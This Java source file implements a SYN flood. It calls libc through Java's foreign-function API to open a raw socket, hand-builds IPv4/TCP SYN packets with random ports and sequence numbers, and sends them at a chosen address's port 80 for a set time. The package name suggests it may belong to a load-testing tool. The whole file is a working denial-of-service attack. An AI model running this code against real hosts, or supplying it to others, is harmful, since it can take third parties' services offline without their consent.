package io.metapunt.load;

import java.io.IOException;
import java.lang.foreign.Arena;
import java.lang.foreign.FunctionDescriptor;
import java.lang.foreign.Linker;
import java.lang.foreign.MemoryLayout;
import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;
import java.lang.invoke.MethodHandle;
import java.net.DatagramSocket;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.SplittableRandom;

/** SYNs by a raw socket, which the kernel sends as they are. Java has none of its own, so libc's is called. */
@SuppressWarnings("restricted")
final class SynFlood {
    private static final int AF_INET = 2;
    private static final int SOCK_RAW = 3;
    private static final int IPPROTO_RAW = 255;
    private static final int TCP_HEADER = 20;
    private static final int IP_HEADER = 20;
    private static final int HTTP = 80;

    private SynFlood() {}

    /** Gives how many the kernel took. */
    static long run(Duration length, String address) throws IOException {
        InetAddress to = Inet4Address.getByName(address);
        InetAddress from;
        try (DatagramSocket socket = new DatagramSocket()) {
            socket.connect(new InetSocketAddress(to, HTTP));
            from = socket.getLocalAddress();
        }
        try (Arena arena = Arena.ofConfined()) {
            return flood(arena, from, to, length);
        }
    }

    private static long flood(Arena arena, InetAddress from, InetAddress to, Duration length) throws IOException {
        Linker linker = Linker.nativeLinker();
        MethodHandle socket = linker.downcallHandle(
                linker.defaultLookup().findOrThrow("socket"),
                FunctionDescriptor.of(
                        ValueLayout.JAVA_INT, ValueLayout.JAVA_INT, ValueLayout.JAVA_INT, ValueLayout.JAVA_INT));
        MethodHandle sendto = linker.downcallHandle(
                linker.defaultLookup().findOrThrow("sendto"),
                FunctionDescriptor.of(
                        ValueLayout.JAVA_LONG,
                        ValueLayout.JAVA_INT,
                        ValueLayout.ADDRESS,
                        ValueLayout.JAVA_LONG,
                        ValueLayout.JAVA_INT,
                        ValueLayout.ADDRESS,
                        ValueLayout.JAVA_INT));
        MemorySegment peer = arena.allocate(MemoryLayout.sequenceLayout(16, ValueLayout.JAVA_BYTE));
        peer.set(ValueLayout.JAVA_SHORT, 0, (short) AF_INET);
        MemorySegment.copy(to.getAddress(), 0, peer, ValueLayout.JAVA_BYTE, 4, 4);
        MemorySegment packet = arena.allocate(IP_HEADER + TCP_HEADER);
        SplittableRandom random = new SplittableRandom();
        long sent = 0;
        try {
            int fd = (int) socket.invokeExact(AF_INET, SOCK_RAW, IPPROTO_RAW);
            if (fd < 0) {
                throw new IOException("no raw socket: not root?");
            }
            long end = System.nanoTime() + length.toNanos();
            while (System.nanoTime() < end) {
                byte[] syn = syn(from, to, random);
                MemorySegment.copy(syn, 0, packet, ValueLayout.JAVA_BYTE, 0, syn.length);
                if ((long) sendto.invokeExact(fd, packet, (long) syn.length, 0, peer, 16) > 0) {
                    sent++;
                }
            }
            return sent;
        } catch (IOException | RuntimeException | Error e) {
            throw e;
        } catch (Throwable e) {
            throw new IOException(e);
        }
    }

    private static byte[] syn(InetAddress from, InetAddress to, SplittableRandom random) {
        // The kernel fills the total length and the header's checksum in.
        ByteBuffer packet = ByteBuffer.allocate(IP_HEADER + TCP_HEADER);
        packet.put((byte) 0x45)
                .putInt(0)
                .put((byte) 0)
                .putShort((short) 0)
                .put((byte) 64)
                .put((byte) 6);
        packet.putShort((short) 0).put(from.getAddress()).put(to.getAddress());
        packet.putShort((short) random.nextInt(1_024, 65_536)).putShort((short) HTTP);
        packet.putInt(random.nextInt()).putInt(0).putShort((short) 0x5002).putShort((short) 0xffff);
        packet.putInt(0);
        long sum = 6 + TCP_HEADER;
        for (int at = 12; at < packet.capacity(); at += 2) {
            sum += packet.getShort(at) & 0xffff;
        }
        sum = (sum & 0xffff) + (sum >> 16);
        sum = (sum & 0xffff) + (sum >> 16);
        packet.putShort(IP_HEADER + 16, (short) ~sum);
        return packet.array();
    }
}
